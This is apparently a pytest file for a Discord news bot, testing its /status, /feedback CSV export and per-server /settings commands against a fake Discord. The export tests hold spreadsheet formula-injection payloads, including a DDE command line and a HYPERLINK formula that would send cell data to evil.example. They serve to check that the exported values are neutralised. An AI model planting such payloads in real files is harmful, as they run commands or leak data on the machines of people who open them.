"""Per-server features of the real bot against the fake Discord: /status, /feedback
export, /settings (and the answer paths honouring them)."""

from __future__ import annotations

import asyncio
import csv
import io
import threading
from dataclasses import replace
from datetime import datetime, timedelta
from pathlib import Path

from fake_discord import fixtures
from fake_discord.client import run_client
from fake_discord.server import FakeDiscord
from fakes import HashingEmbedder, chat_completion
from local_http import LocalHTTPServer
from test_discord_bot import all_text, custom_ids, make_backend, make_config, run_bot
from test_discord_feeds import _feed

from bot.config import LLMConfig
from bot.discord import GeobotClient
from bot.discord.runner import backend_factory
from bot.discord.server_messages import BotStatus, answering_mode, render_status
from bot.feedback_export import feedback_csv, spreadsheet_safe
from bot.server_state import ServerSettings
from bot.state import BotState, FeedbackRow
from index import StoreStats

fake_discord = fixtures.fake_discord

EPHEMERAL = 64


def rows_of(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"))))


# -- /status ---------------------------------------------------------------------------------


def test_status_is_open_to_everyone_and_reports_the_bot(
    fake_discord: FakeDiscord, tmp_path: Path
) -> None:
    config = make_config(tmp_path, fake_discord)

    async def body(client: GeobotClient) -> None:
        shown = await (await fake_discord.send_command("status", {})).next("followup")
        assert shown.flags & EPHEMERAL
        fields = {f["name"]: f["value"] for f in shown.embeds[0]["fields"]}
        assert fields["Up for"].endswith(" s") or "min" in fields["Up for"]
        assert (
            fields["Gateway latency"].endswith(" ms") or "not measured" in fields["Gateway latency"]
        )
        assert fields["Articles"].startswith("8, dated ") and "2024" in fields["Articles"]
        assert "none" in fields["Feeds"]
        assert "quoted sentences" in fields["Answers"]
        assert "Shards" not in fields

    run_bot(fake_discord, config, body)


# -- /feedback export --------------------------------------------------------------------------


def test_spreadsheet_formulas_are_neutralised() -> None:
    for dangerous in ("=1+1", "+1", "-2", "@SUM(A1)", "\t=x", "\r=x", "  =cmd|' /C calc'!A0"):
        assert spreadsheet_safe(dangerous) == "'" + dangerous
    for harmless in ("What did NATO decide?", "1-2", "a=b", ""):
        assert spreadsheet_safe(harmless) == harmless
    row = FeedbackRow(
        answer_id=1,
        user_id=2,
        helpful=True,
        created_at="2024-04-16T09:00:00+00:00",
        question='=HYPERLINK("http://evil.example/?"&A1,"click")',
        answer_text="-1 said the minister",
        declined=False,
        sources=["https://news.example/a"],
    )
    parsed = rows_of(feedback_csv([row]).encode())
    assert parsed[0]["question"].startswith("'=HYPERLINK")
    assert parsed[0]["answer_text"] == "'-1 said the minister"
    assert parsed[0]["sources"] == "https://news.example/a"


def test_feedback_export_sends_this_servers_votes_as_csv(
    fake_discord: FakeDiscord, tmp_path: Path
) -> None:
    config = make_config(tmp_path, fake_discord)

    async def body(client: GeobotClient) -> None:
        empty = await fake_discord.send_command("feedback export", {}, user=fake_discord.admin)
        assert "No votes" in ((await empty.next("followup")).content or "")

        asked = await fake_discord.send_command("ask", {"question": "=cmd|' /C calc'!A0 grain"})
        answer = await asked.next("followup")
        up = next(i for i in custom_ids(answer) if i.endswith(":up"))
        await (await fake_discord.send_component(answer.message_id, up)).next("callback")
        # A vote on another server's answer is not this server's to export.
        state: BotState = client.backend.state
        other = await client.offload(client.backend.service.ask, "elsewhere")
        other_id = await client.offload(state.record_answer, other, guild_id=1234)
        await client.offload(state.record_feedback, other_id, 99, False)

        refused = await fake_discord.send_command("feedback export", {})  # a plain member
        reply = await refused.next("callback")
        assert reply.flags & EPHEMERAL and "Manage Server" in (reply.content or "")
        assert not reply.files

        exported = await fake_discord.send_command("feedback export", {}, user=fake_discord.admin)
        sent = await exported.next("followup")
        assert sent.flags & EPHEMERAL and "1 vote" in (sent.content or "")
        (upload,) = sent.files
        assert upload.filename == "geobot-feedback.csv"
        (row,) = rows_of(upload.data)
        assert row["helpful"] == "True"
        assert row["question"] == "'=cmd|' /C calc'!A0 grain"

    run_bot(fake_discord, config, body)


# -- /settings -------------------------------------------------------------------------------

ADMIN_SETTINGS: tuple[tuple[str, dict[str, object]], ...] = (
    ("settings channels", {"action": "everywhere"}),
    ("settings cooldown", {"seconds": 5.0}),
    ("settings follow-ups", {"mode": "inline"}),
    ("settings written-answers", {"enabled": False}),
    ("settings sources", {"action": "clear"}),
    ("settings reset", {}),
)


def test_a_plain_member_sees_settings_but_cannot_change_them(
    fake_discord: FakeDiscord, tmp_path: Path
) -> None:
    config = make_config(tmp_path, fake_discord)

    async def body(client: GeobotClient) -> None:
        sync = await fake_discord.stream(lambda a: a.kind == "commands_sync").next()
        schema = {c["name"]: c for c in sync.payload}
        # /settings stays visible (show is for everyone); the others are hidden too.
        assert schema["settings"].get("default_member_permissions") is None
        for name in ("feedback", "briefing"):
            assert int(schema[name]["default_member_permissions"]) == 1 << 5
        for name in ("status", "settings", "feedback", "briefing"):
            assert schema[name]["description"]
            for option in schema[name].get("options", []):
                assert option["description"], (name, option["name"])
                assert all(o["description"] for o in option.get("options", [])), name

        shown = await (await fake_discord.send_command("settings show", {})).next("callback")
        assert shown.flags & EPHEMERAL and "every channel" in all_text(shown)
        for name, options in ADMIN_SETTINGS:
            refused = await fake_discord.send_command(name, options)
            reply = await refused.next("callback")
            assert reply.flags & EPHEMERAL and "Manage Server" in (reply.content or ""), name
        guild_id = int(fake_discord.guild.id)
        assert client.backend.state.servers.settings(guild_id) == ServerSettings()

    run_bot(fake_discord, config, body)


async def change(fake: FakeDiscord, name: str, options: dict[str, object]) -> str:
    handle = await fake.send_command(name, options, user=fake.admin)
    reply = await handle.next("followup")
    assert reply.flags & EPHEMERAL and (reply.content or "").startswith("Saved"), all_text(reply)
    return all_text(reply)


def test_answer_channels_cooldown_and_follow_ups_are_per_server(
    fake_discord: FakeDiscord, tmp_path: Path
) -> None:
    config = make_config(tmp_path, fake_discord)
    news = fake_discord.other_channel

    async def body(client: GeobotClient) -> None:
        shown = await change(
            fake_discord, "settings channels", {"action": "add", "channel": news["id"]}
        )
        assert f"<#{news['id']}> (set here)" in shown
        refused = await fake_discord.send_command("ask", {"question": "ceasefire"})
        assert "channels set up for me" in ((await refused.next("callback")).content or "")
        ignored = await fake_discord.send_message("ceasefire?", mention_bot=True)
        await ignored.expect_nothing(0.5, "message")

        # Inline follow-ups: the mention's answer is a reply, not a thread.
        await change(fake_discord, "settings follow-ups", {"mode": "inline"})
        asked = await fake_discord.send_message(
            "Which countries tightened chip export rules?", mention_bot=True, channel=news
        )
        answer = await asked.next("message")
        assert answer.body["message_reference"]["message_id"] == int(asked.message["id"])
        assert not [a for a in asked.actions if a.kind == "thread_create"]

        await change(fake_discord, "settings cooldown", {"seconds": 600.0})
        first = await fake_discord.send_command("ask", {"question": "grain"}, channel=news)
        await first.next("followup")
        second = await fake_discord.send_command("ask", {"question": "grain"}, channel=news)
        assert "Please wait" in ((await second.next("callback")).content or "")

        await change(fake_discord, "settings channels", {"action": "everywhere"})
        anywhere = await fake_discord.send_command(
            "ask", {"question": "ceasefire"}, user=fake_discord.owner
        )
        assert (await anywhere.next("callback")).callback_type == 5

    run_bot(fake_discord, config, body)


def test_settings_survive_a_restart_and_reset(fake_discord: FakeDiscord, tmp_path: Path) -> None:
    config = make_config(tmp_path, fake_discord)

    async def first(client: GeobotClient) -> None:
        await change(fake_discord, "settings cooldown", {"seconds": 42.0})
        await change(fake_discord, "settings sources", {"action": "exclude", "outlet": "Wire One"})

    async def second(client: GeobotClient) -> None:
        shown = await (await fake_discord.send_command("settings show", {})).next("callback")
        text = all_text(shown)
        assert "42 s (set here)" in text and "Left-out outlets:** Wire One" in text
        reset = await fake_discord.send_command("settings reset", {}, user=fake_discord.admin)
        text = all_text(await reset.next("followup"))
        assert "(set here)" not in text and "Left-out outlets:** none" in text

    run_bot(fake_discord, config, first)
    run_bot(fake_discord, config, second)


def test_excluded_and_preferred_sources_shape_answers_and_search(
    fake_discord: FakeDiscord, tmp_path: Path
) -> None:
    config = make_config(tmp_path, fake_discord)
    question = {"question": "What did the mediators propose in the ceasefire talks?"}

    async def body(client: GeobotClient) -> None:
        before = await (await fake_discord.send_command("ask", question)).next("followup")
        assert "Wire One" in all_text(before)
        searched = await (
            await fake_discord.send_command("search", {"query": "ceasefire talks"})
        ).next("followup")
        assert "Wire One" in all_text(searched)

        await change(fake_discord, "settings sources", {"action": "exclude", "outlet": "wire one"})
        after = await (
            await fake_discord.send_command("ask", question, user=fake_discord.admin)
        ).next("followup")
        assert "Wire One" not in all_text(after)
        searched = await (
            await fake_discord.send_command("search", {"query": "ceasefire talks"})
        ).next("followup")
        assert "Wire One" not in all_text(searched)
        mention = await fake_discord.send_message(question["question"], mention_bot=True)
        assert "Wire One" not in all_text(await mention.next("message"))

        # Moving it to the preferred list takes it off the excluded one.
        shown = await change(
            fake_discord, "settings sources", {"action": "prefer", "outlet": "Wire One"}
        )
        assert "Preferred outlets:** Wire One" in shown and "Left-out outlets:** none" in shown
        again = await (
            await fake_discord.send_command("ask", question, user=fake_discord.owner)
        ).next("followup")
        assert "Wire One" in all_text(again)

    run_bot(fake_discord, config, body)


def test_written_answers_can_be_turned_off_per_server(
    fake_discord: FakeDiscord, tmp_path: Path, local_http: LocalHTTPServer
) -> None:
    config = make_config(tmp_path, fake_discord).model_copy(
        update={"llm": LLMConfig(enabled=True, base_url=local_http.url("/v1"))}
    )
    make_backend(config).close()  # the corpus, ingested once
    reply = "The mediators proposed a six-week truce [1][2][3][4][5]."
    local_http.add("/v1/chat/completions", chat_completion(reply), content_type="application/json")
    question = {"question": "What did the mediators propose in the ceasefire talks?"}

    async def main() -> None:
        client = GeobotClient(config, backend_factory(config, lambda: HashingEmbedder(256)))
        async with run_client(client, fake_discord):
            written = await (await fake_discord.send_command("ask", question)).next("followup")
            assert "written by a language model" in written.embeds[-1]["footer"]["text"]
            shown = await change(fake_discord, "settings written-answers", {"enabled": False})
            assert "written answers are off on this server) (set here)" in shown
            quoted = await (
                await fake_discord.send_command("ask", question, user=fake_discord.admin)
            ).next("followup")
            footer = quoted.embeds[-1]["footer"]["text"]
            assert "extractive" in footer and "language model" not in footer
            status = await (await fake_discord.send_command("status", {})).next("followup")
            assert "written answers are off" in all_text(status)

    asyncio.run(asyncio.wait_for(main(), timeout=60))
    assert len(local_http.requests_to("/v1/chat/completions")) == 1


def change_one(state: BotState, barrier: threading.Barrier, name: str, value: object) -> None:
    barrier.wait()
    state.servers.update_settings(1, **{name: value})


def test_settings_changed_at_once_all_stay(tmp_path: Path) -> None:
    fields = ("cooldown_seconds", "follow_ups", "written_answers", "answer_channel_ids")
    values = (5.0, "inline", False, (7,))
    for attempt in range(10):
        state = BotState(tmp_path / f"bot{attempt}.sqlite3")
        barrier = threading.Barrier(len(fields))

        threads = [
            threading.Thread(target=change_one, args=(state, barrier, name, value))
            for name, value in zip(fields, values, strict=True)
        ]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        state.close()
        reopened = BotState(tmp_path / f"bot{attempt}.sqlite3")
        assert reopened.servers.settings(1) == ServerSettings(
            cooldown_seconds=5.0,
            follow_ups="inline",
            written_answers=False,
            answer_channel_ids=(7,),
        )
        reopened.close()


def test_status_names_the_last_poll_failing_feeds_and_shards() -> None:
    stats = StoreStats(
        articles=2,
        passages=3,
        vectors=3,
        earliest=datetime(2024, 4, 1),
        latest=datetime(2024, 4, 16),
        outlets=(),
        model="m",
        dimension=8,
        index_factory="Flat",
        data_dir=Path("."),
        disk_bytes=0,
    )
    feeds = [
        replace(
            _feed(1, "https://a.example/rss", "A", None), last_polled_at=datetime(2024, 4, 16, 9, 5)
        ),
        replace(
            _feed(2, "https://b.example/rss", "B", "timed out"),
            last_polled_at=datetime(2024, 4, 16, 8, 0),
        ),
    ]
    embed = render_status(
        BotStatus(
            uptime=timedelta(days=2, hours=3, minutes=4),
            latency_seconds=float("inf"),
            shard_count=4,
            stats=stats,
            feeds=feeds,
            polling=False,
            mode=answering_mode("llama-3", written_answers=True),
        )
    )
    fields = {f.name: f.value for f in embed.fields}
    assert fields["Up for"] == "2 d 3 h" and fields["Gateway latency"] == "not measured yet"
    assert fields["Shards"] == "4"
    assert fields["Articles"] == "2, dated 1 Apr 2024 to 16 Apr 2024"
    assert fields["Feeds"] == (
        "2 feeds, last poll 16 Apr 2024 09:05 UTC, 1 failing (`/feeds list`); "
        "background polling is off"
    )
    assert str(fields["Answers"]).startswith("written by `llama-3`")
